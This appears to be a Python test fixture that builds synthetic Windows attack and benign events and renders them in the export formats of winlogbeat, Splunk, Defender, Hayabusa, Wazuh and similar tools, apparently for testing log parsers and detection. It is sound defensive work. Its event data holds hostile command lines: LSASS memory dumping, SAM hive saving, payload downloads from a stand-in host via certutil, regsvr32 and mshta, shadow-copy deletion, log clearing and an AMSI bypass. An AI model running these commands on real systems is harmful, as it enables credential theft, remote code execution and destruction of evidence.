"""The same Windows events in the forms of other programs, from winlogbeat, Splunk and Defender to Hayabusa and Wazuh.

Each form is written after its documentation; Defender and Hayabusa do not record every event, as in reality.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable, Sequence
from datetime import datetime
from xml.sax.saxutils import escape, quoteattr

import msgspec

from tests.support.evtx_writer import Record, evtx

S32 = r"C:\Windows\System32"
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSTEM = ("System", "Service Control Manager")
SHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
HOST = "WS-17.corp.example"


def _process(
    image: str, command: str, parent: str = r"C:\Windows\explorer.exe", user: str = r"CORP\ann"
) -> dict[str, str]:
    name = image.rpartition("\\")[2]
    return {
        "RuleName": "-", "UtcTime": "2026-11-20 03:12:45.000", "ProcessGuid": "{0}", "ProcessId": "0", "Image": image,
        "OriginalFileName": name, "CommandLine": command, "User": user, "IntegrityLevel": "High",
        "ParentProcessGuid": "{00000000-0000-0000-0000-000000000000}", "ParentProcessId": "800",
        "ParentImage": parent, "ParentUser": user,
        "ParentCommandLine": "svchost.exe -k netsvcs -p" if parent.endswith("svchost.exe") else parent,
    }  # fmt: skip


_RUN = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run"
_LOGON = {"SubjectUserName": "-", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM"}
_FAILED = {**_LOGON, "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": "3", "WorkstationName": "KALI"}
_FOUND: list[tuple[tuple[str, str], int, dict[str, str]]] = [
    (SYSMON, 1, _process(rf"{S32}\rundll32.exe", rf"rundll32.exe {S32}\comsvcs.dll, MiniDump 624 C:\t\l.dmp full")),
    (SYSMON, 1, _process(rf"{S32}\reg.exe", r"reg save HKLM\SAM C:\t\sam.hiv")),
    (SYSMON, 1, _process(rf"{S32}\certutil.exe", "certutil -urlcache -f http://198.51.100.7/a.exe a.exe")),
    (SYSMON, 1, _process(rf"{S32}\vssadmin.exe", "vssadmin delete shadows /all /quiet")),
    (SYSMON, 1, _process(rf"{S32}\regsvr32.exe", "regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll")),
    (SYSMON, 1, _process(rf"{S32}\mshta.exe", "mshta http://198.51.100.7/a.hta")),
    (SYSMON, 1, _process(rf"{S32}\net.exe", 'net group "Domain Admins" /domain', rf"{S32}\cmd.exe")),
    (SYSMON, 1, _process(rf"{S32}\cmd.exe", "cmd /c whoami", rf"{S32}\wbem\WmiPrvSE.exe")),
    (SYSMON, 1, _process(rf"{S32}\cmd.exe", "cmd /c dir", rf"{S32}\inetsrv\w3wp.exe")),
    (SYSMON, 1, _process(
        rf"{S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"
    )),
    (SYSMON, 1, _process(rf"{S32}\cmd.exe", "cmd.exe", rf"{S32}\fodhelper.exe")),
    (SYSMON, 1, _process(rf"{S32}\cmd.exe", "cmd /c a", r"C:\Program Files\Microsoft Office\root\WINWORD.EXE")),
    (SYSMON, 1, _process(rf"{S32}\wevtutil.exe", "wevtutil cl Security")),
    (SYSMON, 1, _process(rf"{S32}\schtasks.exe", r"schtasks /create /tn Upd /tr C:\Users\Public\a.exe /sc onlogon")),
    (SYSMON, 13, {"EventType": "SetValue", "Image": rf"{S32}\reg.exe", "TargetObject": rf"{_RUN}\Updater",
                  "Details": "powershell.exe -w hidden -enc SQBFAFgA", "User": r"CORP\ann"}),
    (SYSMON, 13, {"EventType": "SetValue", "Image": rf"{S32}\reg.exe", "User": r"CORP\ann",
                  "TargetObject": r"HKU\S-1-5-21-1-2-3-1001_Classes\ms-settings\shell\open\command\(Default)",
                  "Details": "cmd.exe"}),
    (SYSMON, 10, {"SourceImage": r"C:\t\a.exe", "TargetImage": rf"{S32}\lsass.exe", "GrantedAccess": "0x1410",
                  "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9c584|UNKNOWN(0001)", "SourceUser": r"CORP\ann"}),
    (SYSMON, 8, {"SourceImage": r"C:\t\a.exe", "TargetImage": rf"{S32}\notepad.exe", "StartModule": "-"}),
    (SYSMON, 11, {"Image": r"C:\t\a.exe", "TargetFilename": r"C:\Windows\Temp\mimikatz.exe", "User": r"CORP\ann"}),
    (SYSMON, 6, {"ImageLoaded": r"C:\Users\ann\RTCore64.sys", "Signed": "true", "SignatureStatus": "Valid"}),
    (SYSMON, 17, {"PipeName": r"\psexesvc", "Image": r"C:\Windows\PSEXESVC.exe", "EventType": "CreatePipe"}),
    (SECURITY, 4698, {"SubjectUserName": "ann", "TaskName": r"\Upd",
                      "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-enc A</Arguments></Exec>"}),
    (SECURITY, 4720, {"TargetUserName": "helpdesk2", "TargetDomainName": "WS-17", "SubjectUserName": "ann"}),
    (SECURITY, 4732, {"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "MemberName": "helpdesk2",
                      "MemberSid": "S-1-5-21-1-2-3-1099", "SubjectUserName": "ann"}),
    *[(SECURITY, 4625, {**_FAILED, "TargetUserName": "svc-backup", "IpAddress": "203.0.113.9"})] * 12,
    (SECURITY, 4624, {**_LOGON, "TargetUserName": "svc-backup", "TargetDomainName": "CORP", "LogonType": "3",
                      "IpAddress": "203.0.113.9", "WorkstationName": "KALI"}),
    (SYSTEM, 7045, {"ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe", "ServiceType": "user mode",
                    "StartType": "demand start", "AccountName": "LocalSystem"}),
    (SHELL, 4104, {"MessageNumber": "1", "MessageTotal": "1", "Path": "",
                   "ScriptBlockText": "[Ref].Assembly.GetType('x').GetField('amsiInitFailed','NonPublic,Static')"}),
    (SECURITY, 1102, {"SubjectUserName": "ann", "SubjectDomainName": "CORP"}),
]  # fmt: skip
_QUIET: list[tuple[tuple[str, str], int, dict[str, str]]] = [
    (SYSMON, 1, _process(r"C:\Program Files\Google\Chrome\chrome.exe", '"chrome.exe" --type=renderer')),
    (SYSMON, 1, _process(
        rf"{S32}\svchost.exe", "svchost.exe -k netsvcs -p", rf"{S32}\services.exe", r"NT AUTHORITY\SYSTEM"
    )),
    (SYSMON, 1, _process(rf"{S32}\notepad.exe", r"notepad.exe C:\Users\ann\notes.txt")),
    (SYSMON, 1, _process(rf"{S32}\taskhostw.exe", "taskhostw.exe", rf"{S32}\svchost.exe")),
    (SYSMON, 3, {"Image": rf"{S32}\svchost.exe", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.0.0.17",
                 "SourcePort": "50123", "DestinationIp": "198.51.100.80", "DestinationPort": "443",
                 "User": r"NT AUTHORITY\NETWORK SERVICE"}),
    (SYSMON, 11, {"Image": r"C:\Program Files\Microsoft Office\root\WINWORD.EXE", "User": r"CORP\ann",
                  "TargetFilename": r"C:\Users\ann\Documents\report.docx"}),
    (SYSMON, 7, {"Image": rf"{S32}\notepad.exe", "ImageLoaded": rf"{S32}\kernel32.dll", "Signed": "true",
                 "Signature": "Microsoft Windows", "SignatureStatus": "Valid"}),
    (SYSMON, 22, {"Image": rf"{S32}\svchost.exe", "QueryName": "updates.example.com", "QueryResults": "198.51.100.80",
                  "QueryStatus": "0", "User": r"NT AUTHORITY\NETWORK SERVICE"}),
    (SECURITY, 4624, {**_LOGON, "TargetUserName": "ann", "TargetDomainName": "CORP", "LogonType": "2",
                      "IpAddress": "127.0.0.1", "LogonProcessName": "User32 ", "WorkstationName": "WS-17"}),
    (SECURITY, 4634, {"TargetUserName": "ann", "TargetDomainName": "CORP", "LogonType": "2"}),
]  # fmt: skip


def records() -> list[Record]:
    """The fifty events: forty of an attack, ten of a quiet day."""
    found: list[Record] = []
    numbers: Counter[str] = Counter()
    for place, ((channel, provider), event_id, data) in enumerate([*_FOUND, *_QUIET], start=1):
        own = dict(data)
        if "ProcessGuid" in own:
            own |= {"ProcessGuid": f"{{11111111-2222-3333-4444-{place:012}}}", "ProcessId": str(4000 + place)}
        time = f"2026-11-20T03:10:{place:02}+00:00"
        numbers[channel] += 1  # each log numbers its own records
        number = numbers[channel]
        if channel == "Security" and event_id == 1102:
            found.append(Record(number=number, event_id=event_id, time=time, channel=channel, computer=HOST,
                                provider="Microsoft-Windows-Eventlog", data=own,
                                user_data="LogFileCleared"))  # fmt: skip
        else:
            found.append(Record(number=number, event_id=event_id, time=time, channel=channel, provider=provider,
                                computer=HOST, data=own))  # fmt: skip
    return found


def _iso(record: Record) -> str:
    return record.time.replace("+00:00", ".000Z")


def as_evtx(found: Sequence[Record]) -> bytes:
    return evtx(*(list(found[at : at + 10]) for at in range(0, len(found), 10)))


def as_winlogbeat(found: Sequence[Record]) -> bytes:
    """Winlogbeat's documents, as a search exports them (``_source``)."""
    lines = []
    for record in found:
        data = "user_data" if record.user_data else "event_data"
        source = {
            "@timestamp": _iso(record), "ecs": {"version": "8.11.0"}, "agent": {"type": "winlogbeat"},
            "event": {"code": str(record.event_id), "kind": "event", "provider": record.provider, "module": "x",
                      "category": ["host"], "action": "x"},
            "host": {"name": HOST, "os": {"type": "windows"}},
            "winlog": {"channel": record.channel, "event_id": str(record.event_id), "computer_name": HOST,
                       "provider_name": record.provider, "record_id": record.number, data: record.data},
        }  # fmt: skip
        lines.append(json.dumps({"_index": "winlogbeat-8", "_id": str(record.number), "_source": source}))
    return "\n".join(lines).encode() + b"\n"


def _xml(record: Record) -> str:
    if record.user_data:
        inner = "".join(f"<{name}>{escape(value)}</{name}>" for name, value in record.data.items())
        data = f"<UserData><{record.user_data}>{inner}</{record.user_data}></UserData>"
    else:
        inner = "".join(f"<Data Name={quoteattr(name)}>{escape(value)}</Data>" for name, value in record.data.items())
        data = f"<EventData>{inner}</EventData>"
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name='{record.provider}'/><EventID>{record.event_id}</EventID>"
        f"<TimeCreated SystemTime='{_iso(record)}'/><EventRecordID>{record.number}</EventRecordID>"
        f"<Channel>{record.channel}</Channel><Computer>{HOST}</Computer></System>{data}</Event>"
    )


def as_splunk(found: Sequence[Record]) -> bytes:
    """Splunk's export of XmlWinEventLog: one result a line, the event in ``_raw``."""
    rows = [
        {"preview": False, "offset": record.number, "result": {
            "_time": _iso(record), "host": "WS-17", "source": f"XmlWinEventLog:{record.channel}", "index": "w",
            "sourcetype": "XmlWinEventLog", "EventCode": str(record.event_id), "_raw": _xml(record)}}
        for record in found
    ]  # fmt: skip
    return "\n".join(map(json.dumps, rows)).encode() + b"\n"


def as_velociraptor(found: Sequence[Record]) -> bytes:
    """``parse_evtx``'s rows, as Velociraptor exports them."""
    rows = []
    for record in found:
        system = {
            "Provider": {"Name": record.provider}, "EventID": {"Value": record.event_id},
            "TimeCreated": {"SystemTime": _seconds(record)}, "EventRecordID": record.number,
            "Channel": record.channel, "Computer": HOST,
        }  # fmt: skip
        data = {"UserData": {record.user_data: record.data}} if record.user_data else {"EventData": record.data}
        rows.append({"System": system, **data, "Message": "x", "OSPath": r"C:\Windows\System32\winevt\Logs\x.evtx"})
    return "\n".join(map(json.dumps, rows)).encode() + b"\n"


def _seconds(record: Record) -> float:
    return datetime.fromisoformat(record.time).timestamp()


class Form(msgspec.Struct, frozen=True):
    """A form of export; ``lacks`` are the events that it does not record."""

    write: Callable[[Sequence[Record]], bytes]
    lacks: frozenset[tuple[str, int]] = frozenset()


_DEFENDER_COLUMNS = (
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256", "ProcessId",
    "ProcessCommandLine", "ProcessIntegrityLevel", "ProcessVersionInfoOriginalFileName", "AccountDomain",
    "AccountName", "AccountSid", "LogonType", "RemoteIP", "RemotePort", "RemoteDeviceName", "LocalIP", "LocalPort",
    "Protocol", "RegistryKey", "RegistryValueName", "RegistryValueData", "FailureReason", "InitiatingProcessFileName",
    "InitiatingProcessFolderPath", "InitiatingProcessCommandLine", "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "ReportId",
    "AdditionalFields",
)  # fmt: skip


def as_defender(found: Sequence[Record]) -> bytes:
    """Advanced hunting's export of a union of the Device tables."""
    text = io.StringIO()
    rows = csv.DictWriter(text, _DEFENDER_COLUMNS, restval="")
    rows.writeheader()
    for record in found:
        row = _defender_row(record)
        if row is not None:
            device = {"DeviceId": "a" * 40, "DeviceName": HOST, "ReportId": str(record.number)}
            rows.writerow({"Timestamp": _iso(record), **device, **row})
    return text.getvalue().encode()


def _file(path: str) -> dict[str, str]:
    return {"FileName": path.rpartition("\\")[2], "FolderPath": path}


def _by(path: str) -> dict[str, str]:
    return {"InitiatingProcessFileName": path.rpartition("\\")[2].lower(), "InitiatingProcessFolderPath": path.lower()}


def _account(name: str) -> dict[str, str]:
    domain, _, user = name.rpartition("\\")
    return {"AccountDomain": domain.lower(), "AccountName": user.lower()}


_TYPES = {"2": "Interactive", "3": "Network"}


def _defender_row(record: Record) -> dict[str, str] | None:
    data = record.data
    key = record.event_id if record.channel != SYSMON[0] else f"sysmon {record.event_id}"
    match key:
        case "sysmon 1":
            return {"ActionType": "ProcessCreated", **_file(data["Image"]), **_account(data["User"]),
                    "ProcessId": data["ProcessId"], "ProcessCommandLine": data["CommandLine"],
                    "ProcessVersionInfoOriginalFileName": data["OriginalFileName"], "ProcessIntegrityLevel": "High",
                    **_by(data["ParentImage"]), "InitiatingProcessCommandLine": data["ParentCommandLine"]}  # fmt: skip
        case "sysmon 13":
            path, _, name = data["TargetObject"].rpartition("\\")
            return {"ActionType": "RegistryValueSet", "RegistryKey": path.replace("HKU", "HKEY_USERS", 1),
                    "RegistryValueName": name, "RegistryValueData": data["Details"], **_by(data["Image"])}  # fmt: skip
        case "sysmon 10":
            access = json.dumps({"DesiredAccess": int(data["GrantedAccess"], 16)})
            return {"ActionType": "OpenProcessApiCall", **_file(data["TargetImage"]), **_by(data["SourceImage"]),
                    "AdditionalFields": access}  # fmt: skip
        case "sysmon 8":
            return {"ActionType": "CreateRemoteThreadApiCall", **_file(data["TargetImage"]), **_by(data["SourceImage"])}
        case "sysmon 11":
            return {"ActionType": "FileCreated", **_file(data["TargetFilename"]), **_by(data["Image"])}
        case "sysmon 6":
            return {"ActionType": "DriverLoad", **_file(data["ImageLoaded"])}
        case "sysmon 7":
            return {"ActionType": "ImageLoaded", **_file(data["ImageLoaded"]), **_by(data["Image"])}
        case "sysmon 17":
            pipe = json.dumps({"PipeName": rf"\Device\NamedPipe{data['PipeName']}"})
            return {"ActionType": "NamedPipeEvent", "AdditionalFields": pipe, **_by(data["Image"])}
        case "sysmon 22":
            query = json.dumps({"DnsQueryString": data["QueryName"]})
            return {"ActionType": "DnsQueryResponse", "AdditionalFields": query, **_by(data["Image"])}
        case "sysmon 3":
            return {"ActionType": "ConnectionSuccess", "RemoteIP": data["DestinationIp"], "Protocol": "Tcp",
                    "RemotePort": data["DestinationPort"], "LocalIP": data["SourceIp"],
                    "LocalPort": data["SourcePort"], **_by(data["Image"])}  # fmt: skip
        case 4624 | 4625:
            return {"ActionType": "LogonSuccess" if key == 4624 else "LogonFailed",
                    **_account(rf"corp\{data['TargetUserName']}"), "LogonType": _TYPES[data["LogonType"]],
                    "Protocol": data["AuthenticationPackageName"], "RemoteIP": data["IpAddress"],
                    "RemoteDeviceName": data["WorkstationName"],
                    "FailureReason": "" if key == 4624 else "InvalidUserNameOrPassword"}  # fmt: skip
        case 4698:
            task = {"TaskName": data["TaskName"], "TaskContent": data["TaskContent"]}
            return {"ActionType": "ScheduledTaskCreated", "AdditionalFields": json.dumps(task),
                    "InitiatingProcessAccountName": data["SubjectUserName"]}  # fmt: skip
        case 4720:
            return {"ActionType": "UserAccountCreated", **_account(rf"ws-17\{data['TargetUserName']}"),
                    "InitiatingProcessAccountName": data["SubjectUserName"]}  # fmt: skip
        case 4732:
            group = {"GroupName": data["TargetUserName"], "GroupSid": data["TargetSid"]}
            return {"ActionType": "UserAccountAddedToLocalGroup", **_account(data["MemberName"]),
                    "AccountSid": data["MemberSid"], "AdditionalFields": json.dumps(group),
                    "InitiatingProcessAccountName": data["SubjectUserName"]}  # fmt: skip
        case 7045:
            service = {"ServiceName": data["ServiceName"], "ServiceAccount": data["AccountName"]}
            return {"ActionType": "ServiceInstalled", **_file(r"C:\Windows\PSEXESVC.exe"),
                    "AdditionalFields": json.dumps(service)}  # fmt: skip
        case 4104:
            script = {"ScriptContent": data["ScriptBlockText"]}
            return {"ActionType": "AmsiScriptContent", "AdditionalFields": json.dumps(script)}
        case 1102:
            return {"ActionType": "SecurityLogCleared", "InitiatingProcessAccountName": data["SubjectUserName"],
                    "InitiatingProcessAccountDomain": data["SubjectDomainName"]}  # fmt: skip
        case _:
            return None


_SHORT = {SECURITY[0]: "Sec", SYSMON[0]: "Sysmon", SYSTEM[0]: "Sys", SHELL[0]: "PwSh", DEFENDER[0]: "Defender"}
_RULES = {
    4625: ("Logon Failure (Wrong Password)", "low"),
    4624: ("Logon (Network)", "info"),
    1102: ("Log Cleared", "high"),
}


def as_hayabusa(found: Sequence[Record]) -> bytes:
    """Hayabusa's profile all-field-info: one row per rule and event; here every event has an informational rule."""
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(
        [
            "Timestamp",
            "RuleTitle",
            "Level",
            "Computer",
            "Channel",
            "EventID",
            "RecordID",
            "AllFieldInfo",
            "RuleFile",
            "EvtxFile",
        ]
    )
    for record in found:
        own = " ¦ ".join(f"{name}: {value}" for name, value in sorted(record.data.items()) if value)
        title, level = _RULES.get(record.event_id, ("Proc Exec", "info"))
        time = record.time.replace("T", " ").replace("+00:00", ".000 +00:00")
        short = _SHORT.get(record.channel, record.channel)
        rows.writerow([time, title, level, HOST, short, record.event_id, record.number, own, "r.yml", "x.evtx"])
    return text.getvalue().encode()


def as_chainsaw(found: Sequence[Record]) -> bytes:
    """Chainsaw's ``hunt --json``: a list of hits, each with its document."""
    hits = []
    for record in found:
        data = {"UserData": {record.user_data: record.data}} if record.user_data else {"EventData": record.data}
        system = {
            "Provider_attributes": {"Name": record.provider}, "EventID": record.event_id, "Channel": record.channel,
            "TimeCreated_attributes": {"SystemTime": _iso(record)}, "EventRecordID": record.number, "Computer": HOST,
        }  # fmt: skip
        hits.append({
            "group": "Sigma", "kind": "individual", "name": "Process Creation", "timestamp": _iso(record),
            "authors": ["a"], "level": "low", "source": "sigma", "status": "test", "falsepositives": [], "id": "1",
            "logsource": {"product": "windows"},
            "document": {"kind": "evtx", "path": "x.evtx", "data": {"Event": {"System": system, **data}}},
        })  # fmt: skip
    return json.dumps(hits).encode()


def as_zircolite(found: Sequence[Record]) -> bytes:
    """Zircolite's report: a list of rules with the rows that matched; an event may match several."""
    rows = [
        {"row_id": place, "Channel": record.channel, "EventID": record.event_id, "Computer": HOST,
         "SystemTime": _iso(record), "EventRecordID": record.number, "Provider_Name": record.provider,
         "OriginalLogfile": "x.evtx", **record.data}
        for place, record in enumerate(found, start=1)
    ]  # fmt: skip
    rule = {"id": "1", "description": "", "sigmafile": "a.yml", "sigma": ["SELECT 1"], "tags": []}
    first = {**rule, "title": "Any Event", "rule_level": "low", "count": len(rows), "matches": rows}
    again = {**rule, "title": "First Events", "rule_level": "medium", "count": 5, "matches": rows[:5]}
    return json.dumps([first, again], indent=4).encode()


def as_evtxecmd(found: Sequence[Record]) -> bytes:
    """EvtxECmd's CSV, whose Payload is the event's data as JSON."""
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(["RecordNumber", "EventRecordId", "TimeCreated", "EventId", "Level", "Provider", "Channel",
                   "ProcessId",
                   "ThreadId", "Computer", "ChunkNumber", "UserId", "MapDescription", "UserName", "RemoteHost",
                   "PayloadData1", "PayloadData2", "ExecutableInfo", "HiddenRecord", "SourceFile", "Keywords",
                   "ExtraDataOffset", "Payload"])  # fmt: skip
    for place, record in enumerate(found, start=1):
        if record.user_data:
            payload: dict[str, object] = {"UserData": {record.user_data: record.data}}
        else:
            data = [{"@Name": name, "#text": value} for name, value in record.data.items()]
            payload = {"EventData": {"Data": data}}
        time = record.time.replace("T", " ").replace("+00:00", ".0000000")
        rows.writerow([place, record.number, time, record.event_id, "Info", record.provider, record.channel, 700, 701,
                       HOST, 0, "", "x", "", "", "x: y", "", "", "False", "x.evtx", "", 0,
                       json.dumps(payload)])  # fmt: skip
    return text.getvalue().encode()


def as_sentinel(found: Sequence[Record]) -> bytes:
    """Log Analytics' CSV of SecurityEvent and Event together, the data as XML."""
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(
        [
            "TenantId",
            "TimeGenerated [UTC]",
            "EventSourceName",
            "Channel",
            "Computer",
            "EventID",
            "Activity",
            "EventData",
            "Type",
        ]
    )
    for record in found:
        inner = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in record.data.items())
        data = f'<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">{inner}</EventData>'
        time = f"{datetime.fromisoformat(record.time):%m/%d/%Y, %I:%M:%S}.000 AM"
        rows.writerow(["t", time, record.provider, record.channel, HOST, record.event_id, "x", data, "SecurityEvent"])
    return text.getvalue().encode()


def as_wazuh(found: Sequence[Record]) -> bytes:
    """Wazuh's alerts.json: the event's names begin in lower case."""
    rows = []
    for place, record in enumerate(found, start=1):
        data = {name[:1].lower() + name[1:]: value for name, value in record.data.items()}
        system = {"eventID": str(record.event_id), "channel": record.channel, "computer": HOST,
                  "providerName": record.provider, "systemTime": _iso(record),
                  "eventRecordID": str(record.number)}  # fmt: skip
        rows.append({
            "timestamp": record.time.replace("+00:00", ".000+0000"), "id": f"1.{place}", "manager": {"name": "m"},
            "rule": {"level": 3, "description": "Windows event", "id": "60000", "groups": ["windows"]},
            "agent": {"id": "001", "name": "WS-17", "ip": "10.0.0.17"}, "decoder": {"name": "windows_eventchannel"},
            "data": {"win": {"system": system, "eventdata": data}}, "location": "EventChannel",
        })  # fmt: skip
    return "\n".join(map(json.dumps, rows)).encode() + b"\n"


def as_splunk_table(found: Sequence[Record]) -> bytes:
    """Splunk's CSV export of XmlWinEventLog."""
    text = io.StringIO()
    rows = csv.writer(text, quoting=csv.QUOTE_ALL)
    rows.writerow(["_time", "_raw", "host", "index", "source", "sourcetype"])
    for record in found:
        rows.writerow(
            [_iso(record), _xml(record), "WS-17", "wineventlog", f"XmlWinEventLog:{record.channel}", "XmlWinEventLog"]
        )
    return text.getvalue().encode()


FORMS = {
    "winlogbeat ECS": Form(as_winlogbeat),
    "Splunk JSON": Form(as_splunk),
    "Defender CSV": Form(as_defender, frozenset({("Security", 4634)})),
    "Velociraptor JSON": Form(as_velociraptor),
    "Hayabusa CSV": Form(as_hayabusa),
}
OTHER_FORMS = {
    "Chainsaw JSON": Form(as_chainsaw),
    "Zircolite JSON": Form(as_zircolite),
    "EvtxECmd CSV": Form(as_evtxecmd),
    "Sentinel CSV": Form(as_sentinel),
    "Wazuh JSON": Form(as_wazuh),
    "Splunk CSV": Form(as_splunk_table),
}
"""Written before the readers were tried on them."""
